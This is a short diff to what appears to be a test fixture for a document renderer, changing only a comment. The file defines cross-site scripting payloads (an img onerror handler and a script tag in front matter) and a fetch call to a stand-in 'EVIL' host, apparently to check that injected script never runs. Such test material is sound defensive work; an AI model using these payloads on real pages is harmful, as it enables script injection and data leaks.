@@ -2,7 +2,7 @@
 export const MARK = 'globalThis.abused=1';
 export const CALL = `${MARK};fetch('http://EVIL/called')`;
 
-/** A document that tries everything; `EVIL` stands for the other host. */
+/** A document with every attack; `EVIL` stands for the other host. */
 export const HOSTILE = `---
 title: '<img src=x onerror="${MARK}">'
 header-includes: <script>${MARK}</script>
